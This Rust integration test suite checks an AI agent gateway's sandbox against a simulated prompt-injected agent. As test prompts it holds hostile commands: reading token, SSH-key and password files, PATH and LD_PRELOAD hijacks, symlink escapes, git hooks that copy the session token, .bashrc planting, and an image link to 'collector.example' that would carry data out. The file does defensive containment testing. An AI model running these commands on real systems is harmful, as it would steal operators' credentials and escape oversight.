#![recursion_limit = "256"]
//! A hostile agent, on every runner: the demo agent plays an agent a prompt injection turned
//! against the gateway, through a real homeserver. The suite (`suite`) tries each way out
//! that used to work, or would on some runner, and is run on every runner
//! (`support::runners`: here in the sandbox, in a container, in a container per room, on
//! another host over SSH): the gateway's secrets (its files, its environment, the agent's
//! own Matrix access token above all) stay out of reach wherever the agent runs. The tests
//! below the suite try what does not depend on where it runs.

mod support;

use support::gateway::CANARY;
use support::runners::{AgentLines, OnRunner, Runner};
use support::{Env, SynapseOptions};

for_every_runner!(suite:
    reads_none_of_the_gateways_files_nor_its_environment,
    a_name_that_is_not_a_variable_name_is_refused,
    a_planted_launcher_never_runs_outside_its_box,
    a_folder_swapped_for_a_link_leads_nowhere_of_the_gateways,
    a_fifo_and_a_huge_sparse_file_are_refused_and_nothing_hangs,
    without_a_network_it_reaches_no_host_service,
);

/// The attacks, each written once for any runner.
mod suite {
    use super::*;

    /// The agent's room folder on `on` and what it said: `%pwd` in a new room.
    async fn room_and_folder(on: &OnRunner) -> (matrix_sdk::room::Room, String) {
        let room = on.env.room_with_agent(false).await;
        let before = on.env.posted(&room);
        on.env.alice.send(&room, "%pwd").await;
        let said = on
            .env
            .answer_since(&room, before, "the agent's folder", |t| {
                t.contains("folder: ")
            })
            .await;
        let folder = said.lines().find_map(|l| l.strip_prefix("folder: "));
        (room, folder.unwrap().trim().to_owned())
    }

    /// Sends `prompt` (whose last line is `%say done trying`) and returns what the agent
    /// said by its end.
    async fn tried(on: &OnRunner, room: &matrix_sdk::room::Room, prompt: &str) -> String {
        let before = on.env.posted(room);
        on.env.alice.send(room, prompt).await;
        on.env
            .answer_since(room, before, "the attempts", |t| t.contains("done trying"))
            .await
    }

    /// Everything the agent posted in `room` carries none of `secrets`.
    fn nothing_posted_carries(on: &OnRunner, room: &matrix_sdk::room::Room, secrets: &[&str]) {
        let texts = on.env.texts_from(room, &on.env.agent);
        for secret in secrets {
            assert!(
                !texts.iter().any(|t| t.contains(secret)),
                "{secret:?} reached the room on {:?}: {texts:?}",
                on.runner
            );
        }
    }

    /// The agent's access token.
    fn token(on: &OnRunner) -> String {
        let session = std::fs::read_to_string(on.session_file()).unwrap();
        let start = session.find("\"access_token\":\"").unwrap() + 16;
        session[start..].split('"').next().unwrap().to_owned()
    }

    pub async fn reads_none_of_the_gateways_files_nor_its_environment(runner: Runner) {
        // Where an operator keeps a build host's key and the store's password file: outside
        // every folder the agent is given, named by no setting of the agent's (the store's
        // by `PGPASSFILE` in the gateway's environment).
        let keys = tempfile::Builder::new()
            .prefix("sidekicks-operator-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .unwrap();
        let (identity, pgpass) = (keys.path().join("id_ed25519"), keys.path().join("pgpass"));
        std::fs::write(&identity, "OPENSSH PRIVATE KEY of-the-build-hosts").unwrap();
        std::fs::write(
            &pgpass,
            "127.0.0.1:5432:sidekicks:sidekicks:pg-password-1234",
        )
        .unwrap();
        let envs = [("PGPASSFILE".to_owned(), pgpass.display().to_string())];
        let Some(on) = runner.start("", AgentLines::default(), &envs).await else {
            return;
        };
        let (room, _) = room_and_folder(&on).await;
        let password_file = on.env.gw.dir.path().join("demo.password");
        let files = [
            on.session_file(),
            on.env.gw.config.clone(),
            password_file,
            identity.clone(),
            pgpass.clone(),
        ];
        let mut prompt: String = (files.iter())
            .map(|f| format!("%read {f}\n%terminal cat {f}\n", f = f.display()))
            .collect();
        prompt.push_str("%terminal env\n%say done trying");
        let said = tried(&on, &room, &prompt).await;
        for file in &files {
            let shown = file.display();
            assert!(
                said.contains(&format!("cannot read {shown}"))
                    || said.contains(&format!("read {shown}: 0 bytes")),
                "{shown} on {runner:?}: {said}"
            );
        }
        let token = token(&on);
        nothing_posted_carries(
            &on,
            &room,
            &[
                &token,
                "demo-password",
                "of-the-build-hosts",
                "pg-password-1234",
                CANARY.1,
            ],
        );
    }

    pub async fn a_name_that_is_not_a_variable_name_is_refused(runner: Runner) {
        let Some(on) = runner.start("", AgentLines::default(), &[]).await else {
            return;
        };
        let (room, _) = room_and_folder(&on).await;
        // A line break in a name would leave a bare `NAME` line in a container's env file,
        // which the engine fills from its own environment (the gateway's); `NAME*` copies
        // every variable of a prefix.
        let (canary, _) = CANARY;
        let said = tried(
            &on,
            &room,
            &format!(
                "%terminal --env {canary}\\nX=1 echo \"[${canary}]\"\n\
                 %terminal --env SIDEKICKS_*=1 env\n\
                 %terminal --env PLAIN_NAME=fine echo \"[$PLAIN_NAME]\"\n\
                 %say done trying"
            ),
        )
        .await;
        assert_eq!(
            said.matches("terminal refused: ").count(),
            2,
            "on {runner:?}: {said}"
        );
        assert!(said.contains("is not a variable name"), "{said}");
        assert!(said.contains("[fine]"), "a name is still a name: {said}");
        nothing_posted_carries(&on, &room, &[CANARY.1]);
    }

    pub async fn a_planted_launcher_never_runs_outside_its_box(runner: Runner) {
        let Some(on) = runner.start("", AgentLines::default(), &[]).await else {
            return;
        };
        let (room, folder) = room_and_folder(&on).await;
        // Where a planted program run by the gateway would leave its mark: the gateway's own
        // folder, which the gateway writes and the agent cannot see.
        let loot = on.env.gw.dir.path().join("loot");
        std::fs::create_dir(&loot).unwrap();
        let programs = ["bwrap", "podman", "docker", "ssh", "sidekicks", "env"];
        let plant: String = (programs.iter())
            .map(|p| {
                format!(
                    "printf '#!/bin/sh\\ntouch {loot}/{p}-ran\\n' > bin/{p} && chmod +x bin/{p} && ",
                    loot = loot.display()
                )
            })
            .collect();
        let said = tried(
            &on,
            &room,
            &format!(
                "%terminal mkdir -p bin && {plant}echo planted\n\
                 %terminal --env PATH={folder}/bin:/usr/bin:/bin echo ran-with-its-path\n\
                 %terminal --env LD_PRELOAD={folder}/bin/evil.so echo ran-with-its-loader\n\
                 %say done trying"
            ),
        )
        .await;
        assert!(said.contains("planted"), "on {runner:?}: {said}");
        // The command ran, with the agent's PATH inside its box, and no planted program ran
        // outside it.
        assert!(said.contains("ran-with-its-path"), "{said}");
        let ran: Vec<_> = std::fs::read_dir(&loot).unwrap().flatten().collect();
        assert!(
            ran.is_empty(),
            "a planted program ran as the gateway: {ran:?}"
        );
        assert!(
            said.contains("terminal refused: ") && said.contains("`LD_PRELOAD` is not passed"),
            "{said}"
        );
        assert!(!said.contains("ran-with-its-loader"), "{said}");
    }

    pub async fn a_folder_swapped_for_a_link_leads_nowhere_of_the_gateways(runner: Runner) {
        let Some(on) = runner.start("", AgentLines::default(), &[]).await else {
            return;
        };
        let (room, folder) = room_and_folder(&on).await;
        let name = std::path::Path::new(&folder)
            .file_name()
            .unwrap()
            .to_string_lossy()
            .into_owned();
        // The session file, as a path from `/`: where a link to `/` leads.
        let session = on.session_file().canonicalize().unwrap();
        let from_root = session.strip_prefix("/").unwrap().display().to_string();
        let tools = match runner.has_room_tools() {
            true => format!("%mcp-call sidekicks post_file {{\"path\": \"root/{from_root}\"}}\n"),
            false => String::new(),
        };
        // A link to `/` inside its folder, and (where it may write above it) its folder
        // swapped for one.
        let said = tried(
            &on,
            &room,
            &format!(
                "%terminal ln -s / root && echo linked\n\
                 %fs-read root/{from_root}\n\
                 %link root/{from_root}\n\
                 {tools}\
                 %terminal cd .. && mv {name} {name}.old && ln -s / {name} && echo swapped || echo stays\n\
                 %fs-read {from_root}\n\
                 %say done trying"
            ),
        )
        .await;
        assert!(said.contains("linked"), "on {runner:?}: {said}");
        assert!(
            said.contains(&format!("fs refused root/{from_root}")),
            "{said}"
        );
        assert!(said.contains(&format!("fs refused {from_root}")), "{said}");
        if runner.has_room_tools() {
            assert!(said.contains("mcp-call post_file failed"), "{said}");
        }
        for path in [format!("root/{from_root}"), from_root.clone()] {
            on.env.alice.send(&room, &format!("!file {path}")).await;
        }
        // Both are refused: a link out is outside the folder, the swapped folder has no such
        // file for the gateway.
        let refusals = support::wait_until(support::PATIENCE, "both files refused", || {
            let notices: Vec<String> = (on.env.alice.messages_from(&room, &on.env.agent))
                .into_iter()
                .filter(|m| m.notice && m.body.contains("I did not post"))
                .map(|m| m.body)
                .collect();
            (notices.len() == 2).then_some(notices)
        })
        .await;
        for refused in refusals {
            assert!(
                refused.contains("outside the workspace")
                    || refused.contains("there is no such file"),
                "{refused}"
            );
        }
        // The gateway answers again once both are refused, and nothing carried the token.
        on.env
            .prompt_and_wait(&room, "%say after the files", "after the files")
            .await;
        nothing_posted_carries(&on, &room, &[&token(&on)]);
        let files = (on.env.alice.messages_from(&room, &on.env.agent).into_iter())
            .filter(|m| m.body == "session.json")
            .count();
        assert_eq!(files, 0, "the session file was posted");
    }

    pub async fn a_fifo_and_a_huge_sparse_file_are_refused_and_nothing_hangs(runner: Runner) {
        let Some(on) = runner.start("", AgentLines::default(), &[]).await else {
            return;
        };
        let (room, _) = room_and_folder(&on).await;
        let said = tried(
            &on,
            &room,
            "%terminal mkfifo fifo && truncate -s 32G sparse && echo made\n\
             %fs-read fifo\n\
             %fs-read sparse\n\
             %say done trying",
        )
        .await;
        assert!(said.contains("made"), "on {runner:?}: {said}");
        assert!(
            said.contains("fs refused fifo") && said.contains("not a regular file"),
            "{said}"
        );
        assert!(
            said.contains("fs refused sparse") && said.contains("read it in parts"),
            "{said}"
        );
        // The gateway answers the next message as ever.
        (on.env)
            .prompt_and_wait(&room, "%say and again", "and again")
            .await;
    }

    pub async fn without_a_network_it_reaches_no_host_service(runner: Runner) {
        let offline = AgentLines {
            sandbox: "network = \"none\"",
            ..AgentLines::default()
        };
        let Some(on) = runner.start("", offline, &[]).await else {
            return;
        };
        let (room, _) = room_and_folder(&on).await;
        let tools = match runner.has_room_tools() {
            true => "%mcp-call sidekicks recent_messages {\"limit\": 5}\n",
            false => "",
        };
        let said = tried(
            &on,
            &room,
            &format!(
                "%terminal {}\n{tools}%say done trying",
                reach_homeserver(&on.env)
            ),
        )
        .await;
        // (The room tools list the prompt, which names both answers: the command's own
        // output is the fenced block.)
        assert!(said.contains("```\nno-route\n```"), "on {runner:?}: {said}");
        if runner.has_room_tools() {
            // They still answer, through the socket file bound into its box.
            assert!(
                said.contains("mcp-call recent_messages:") && said.contains("%terminal"),
                "the room's messages are listed: {said}"
            );
        }
        assert!(on.env.gw.log().contains("network: none (loopback only)"));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_a_container_per_room_one_rooms_agent_reaches_nothing_of_anothers() {
    let Some(on) = Runner::ContainerPerRoom
        .start("", AgentLines::default(), &[])
        .await
    else {
        return;
    };
    let env = &on.env;
    // Room B's agent works, keeps a transcript in its home as agents do, and has a shell
    // start-up file of its own.
    let b = env.room_with_agent(false).await;
    let before = env.posted(&b);
    env.alice
        .send(
            &b,
            "%pwd\n%terminal echo secret-of-room-b > $HOME/transcript.jsonl && echo b-wrote\n%say b done",
        )
        .await;
    let said_b = env
        .answer_since(&b, before, "room B's agent", |t| t.contains("b done"))
        .await;
    assert!(said_b.contains("b-wrote"), "{said_b}");
    let home_b = said_b
        .lines()
        .find_map(|l| l.strip_prefix("home: "))
        .unwrap()
        .trim()
        .to_owned();
    let folder_b = said_b
        .lines()
        .find_map(|l| l.strip_prefix("folder: "))
        .unwrap()
        .trim()
        .to_owned();
    // Room A's agent looks for room B's home, folder and the agent's home every room
    // would share, and plants what would run in B: a shell start-up file, a settings hook.
    let a = env.room_with_agent(false).await;
    let before = env.posted(&a);
    env.alice
        .send(
            &a,
            &format!(
                "%pwd\n\
                 %read {home_b}/transcript.jsonl\n\
                 %read {folder_b}\n\
                 %terminal cat {home_b}/transcript.jsonl; ls $HOME/..; echo done-looking\n\
                 %terminal echo 'touch /tmp/planted-by-a' >> $HOME/.bashrc && mkdir -p $HOME/.claude && echo hook > $HOME/.claude/settings.json && echo planted\n\
                 %say a done"
            ),
        )
        .await;
    let said_a = env
        .answer_since(&a, before, "room A's agent", |t| t.contains("a done"))
        .await;
    let home_a = said_a
        .lines()
        .find_map(|l| l.strip_prefix("home: "))
        .unwrap()
        .trim()
        .to_owned();
    assert_ne!(home_a, home_b, "each room has a home of its own");
    assert!(
        said_a.contains(&format!("cannot read {home_b}/transcript.jsonl")),
        "{said_a}"
    );
    assert!(
        said_a.contains(&format!("cannot read {folder_b}")),
        "{said_a}"
    );
    assert!(
        said_a.contains("planted") && said_a.contains("done-looking"),
        "{said_a}"
    );
    // What A planted in its home is not in B's.
    let before = env.posted(&b);
    env.alice
        .send(
            &b,
            "%terminal cat $HOME/.bashrc $HOME/.claude/settings.json; echo looked\n%say b again",
        )
        .await;
    let said_b = env
        .answer_since(&b, before, "room B's agent again", |t| {
            t.contains("b again")
        })
        .await;
    assert!(said_b.contains("looked"), "{said_b}");
    assert!(
        !said_b.contains("planted-by-a"),
        "A's start-up file reached B: {said_b}"
    );
    assert!(!said_b.contains("hook"), "A's settings reached B: {said_b}");
    let texts = env.texts_from(&a, &env.agent);
    assert!(
        !texts.iter().any(|t| t.contains("secret-of-room-b")),
        "room B's transcript reached room A: {texts:?}"
    );
}

/// A gateway whose agent must run sandboxed (`sandbox.mode = "bubblewrap"`).
async fn sandboxed(extra_toml: &str) -> Env {
    let toml = format!("[sandbox]\nmode = \"bubblewrap\"\n{extra_toml}");
    Env::start(SynapseOptions::default(), &toml).await
}

/// The agent's Matrix session file, which holds its access token.
fn session_file(env: &Env) -> std::path::PathBuf {
    env.gw.dir.path().join("state/matrix/demo/session.json")
}

/// A shell command that connects to the homeserver's port and says whether it could.
fn reach_homeserver(env: &Env) -> String {
    format!(
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}' 2>/dev/null && echo reached-the-homeserver || echo no-route",
        env.hs.port
    )
}

/// Runs git directly in `folder`, for the test's own setup.
fn git(folder: &std::path::Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(folder)
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_never_runs_the_agents_hooks_or_fsmonitor_outside_the_sandbox() {
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let repo = outside.path().join("repo");
    std::fs::create_dir(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("README"), "hello\n").unwrap();
    git(&repo, &["add", "README"]);
    git(
        &repo,
        &[
            "-c",
            "user.email=t@x",
            "-c",
            "user.name=T",
            "commit",
            "-q",
            "-m",
            "first",
        ],
    );
    let env = Env::start_with_agent_toml(
        SynapseOptions::default(),
        "[sandbox]\nmode = \"bubblewrap\"",
        &format!(
            "workspace = \"workspace-demo/{{room}}\"\n[agents.worktree]\nrepository = {repo:?}"
        ),
    )
    .await;
    let first = env.room_with_agent(false).await;
    env.prompt_and_wait(&first, "%say in my worktree", "in my worktree")
        .await;
    // Where whatever the agent's git configuration runs leaves its loot: the workspace, which
    // both the gateway and the agent can reach.
    let loot = env.gw.dir.path().join("workspace-demo");
    let session = session_file(&env);
    let script = |name: &str| {
        format!(
            "#!/bin/sh\\ntouch {loot}/{name}-ran\\ncat {session} > {loot}/{name}-stolen 2>/dev/null\\nexit 0\\n",
            loot = loot.display(),
            session = session.display(),
        )
    };
    let before = env.posted(&first);
    env.alice
        .send(
            &first,
            &format!(
                "%terminal common=$(git rev-parse --git-common-dir) && mkdir -p $common/hooks && \
                 printf '{hook}' > $common/hooks/post-checkout && printf '{monitor}' > $common/monitor && \
                 chmod +x $common/hooks/post-checkout $common/monitor && \
                 git config core.fsmonitor $(cd $common && pwd)/monitor && echo armed\n%say done",
                hook = script("hook"),
                monitor = script("fsmonitor"),
            ),
        )
        .await;
    let said = env
        .answer_since(&first, before, "the armed repository", |t| {
            t.contains("done")
        })
        .await;
    assert!(said.contains("armed"), "{said}");
    // `!worktree` runs `git status`; a second room makes its worktree (a checkout).
    env.alice.send(&first, "!worktree").await;
    env.notice_containing(&first, "on branch").await;
    let second = env.room_with_agent(false).await;
    env.prompt_and_wait(&second, "%say second worktree", "second worktree")
        .await;
    for name in ["hook", "fsmonitor"] {
        assert!(
            !loot.join(format!("{name}-ran")).exists(),
            "the agent's {name} ran for the gateway's git"
        );
        assert!(!loot.join(format!("{name}-stolen")).exists());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_recovery_key_written_after_the_agents_started_stays_hidden() {
    // Where an operator keeps it: outside the state folder. It does not exist yet: the
    // gateway writes it on this first start, once the agent's recovery state is known.
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let key_file = outside.path().join("demo.recovery-key");
    let env = Env::start_with(
        SynapseOptions::default(),
        "[sandbox]\nmode = \"bubblewrap\"",
        support::person::CollectStrategy::AllDevices,
        &[],
        &format!("matrix.recovery_key_file = {key_file:?}"),
    )
    .await;
    let key = support::wait_until(support::PATIENCE, "the recovery key written", || {
        std::fs::read_to_string(&key_file)
            .ok()
            .map(|k| k.trim().to_owned())
            .filter(|k| k.len() > 40)
    })
    .await;
    let room = env.room_with_agent(false).await;
    let before = env.posted(&room);
    env.alice
        .send(&room, &format!("%read {}\n%say done", key_file.display()))
        .await;
    let said = env
        .answer_since(&room, before, "the agent's read", |t| t.contains("done"))
        .await;
    assert!(
        !said.contains(&key),
        "the agent read the recovery key: {said}"
    );
    // Covered: it reads as nothing, or not at all.
    let shown = key_file.display();
    assert!(
        said.contains(&format!("read {shown}: 0 bytes"))
            || said.contains(&format!("cannot read {shown}")),
        "{said}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_read_another_agents_home() {
    use support::{AgentSpec, GatewayProcess, Person, Synapse};
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let (home_a, home_b) = (outside.path().join("home-a"), outside.path().join("home-b"));
    // Agent B signed in once: its credentials live in its home.
    std::fs::create_dir_all(home_b.join(".config")).unwrap();
    std::fs::write(home_b.join(".config/credentials"), "b-api-key-123456").unwrap();
    let hs = Synapse::start(SynapseOptions::default()).await;
    let alice_id = hs.register("alice", "alice-password").await;
    let a = hs.register("demo", "demo-password").await;
    let b = hs.register("other", "other-password").await;
    let spec = |id: &str, user: &str, home: &std::path::Path| AgentSpec {
        id: id.into(),
        user_id: user.into(),
        password: format!("{id}-password"),
        demo_args: vec![],
        agent_toml: format!("home = {home:?}"),
    };
    let gw = GatewayProcess::start(
        &hs.url,
        &[alice_id.as_str()],
        &[spec("demo", &a, &home_a), spec("other", &b, &home_b)],
        "[sandbox]\nmode = \"bubblewrap\"",
    );
    let alice = Person::login(&hs.url, &alice_id, "alice-password").await;
    let env = Env {
        hs,
        gw,
        alice,
        agents: vec![a.clone()],
        agent: a,
    };
    let room = env.room_with_agent(false).await;
    let credentials = home_b.join(".config/credentials");
    let before = env.posted(&room);
    env.alice
        .send(
            &room,
            &format!("%read {}\n%pwd\n%say done", credentials.display()),
        )
        .await;
    let said = env
        .answer_since(&room, before, "the agent's read", |t| t.contains("done"))
        .await;
    assert!(
        said.contains(&format!("home: {}", home_a.display())),
        "{said}"
    );
    assert!(
        said.contains(&format!("cannot read {}", credentials.display())),
        "agent B's credentials were read: {said}"
    );
}

/// The session ID `!sessions` in `room` marks as the conversation's own.
async fn own_session(env: &Env, room: &matrix_sdk::room::Room) -> String {
    env.alice.send(room, "!sessions").await;
    let list = env
        .notice_containing(room, "sessions in this workspace")
        .await;
    (list.body.lines())
        .filter_map(|l| l.strip_prefix("• "))
        .find(|l| l.contains("(this conversation)"))
        .and_then(|l| l.split_whitespace().next())
        .unwrap_or_else(|| panic!("the conversation's session among {}", list.body))
        .to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_room_cannot_list_or_attach_another_rooms_session_in_a_shared_workspace() {
    let env =
        Env::start_with_demo_args(SynapseOptions::default(), "", &["--sessions", "sessions"]).await;
    let first = env.room_with_agent(false).await;
    let second = env.room_with_agent(false).await;
    env.prompt_and_wait(
        &first,
        "%say the launch code is 0000",
        "the launch code is 0000",
    )
    .await;
    let theirs = own_session(&env, &first).await;
    env.prompt_and_wait(&second, "%say hello", "hello").await;
    let mine = own_session(&env, &second).await;
    assert_ne!(theirs, mine);
    env.alice.send(&second, "!sessions").await;
    let list = env.notice_containing(&second, "not shown").await;
    assert!(!list.body.contains(&theirs), "{}", list.body);
    assert!(
        list.body
            .contains("1 session of another room's conversation is not shown"),
        "{}",
        list.body
    );
    env.alice.send(&second, &format!("!attach {theirs}")).await;
    env.notice_containing(
        &second,
        &format!("Session {theirs} is another conversation's"),
    )
    .await;
    // The second room's conversation is still its own.
    let before = env.posted(&second);
    env.alice.send(&second, "%history").await;
    let history = env
        .answer_since(&second, before, "the second room's history", |t| {
            t.contains("earlier prompt")
        })
        .await;
    assert!(!history.contains("launch code"), "{history}");
    assert_eq!(own_session(&env, &second).await, mine);
}

/// The HTML of the agent's message in `room` whose text ends `end`, once it does.
async fn html_of_answer(env: &Env, room: &matrix_sdk::room::Room, end: &str) -> String {
    support::wait_until(support::PATIENCE, "the answer's HTML", || {
        (env.alice.messages_from(room, &env.agent).into_iter())
            .filter(|m| m.replaces.is_none())
            .find(|m| {
                env.alice
                    .current_text(&m.event_id)
                    .is_some_and(|t| t.ends_with(end))
            })
            .and_then(|m| env.alice.current_html(&m.event_id))
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agents_picture_is_never_fetched_by_readers_unless_configured() {
    // A picture whose address would carry the room's words to a server of the agent's
    // choosing, when a reader's homeserver fetches it.
    let prompt = "%say **Done.** ![status](mxc://collector.example/c2VjcmV0) the end";
    let env = sandboxed("").await;
    let room = env.room_with_agent(false).await;
    env.alice.send(&room, prompt).await;
    let html = html_of_answer(&env, &room, "the end").await;
    assert!(!html.contains("<img"), "{html}");
    assert!(
        html.contains("status (mxc://collector.example/c2VjcmV0)"),
        "its description and address, as text: {html}"
    );
    drop(env);
    let env = sandboxed("[display]\npictures = \"matrix\"").await;
    let room = env.room_with_agent(false).await;
    env.alice.send(&room, prompt).await;
    let html = html_of_answer(&env, &room, "the end").await;
    assert!(
        html.contains("<img src=\"mxc://collector.example/c2VjcmV0\""),
        "shown where the operator allows it: {html}"
    );
}
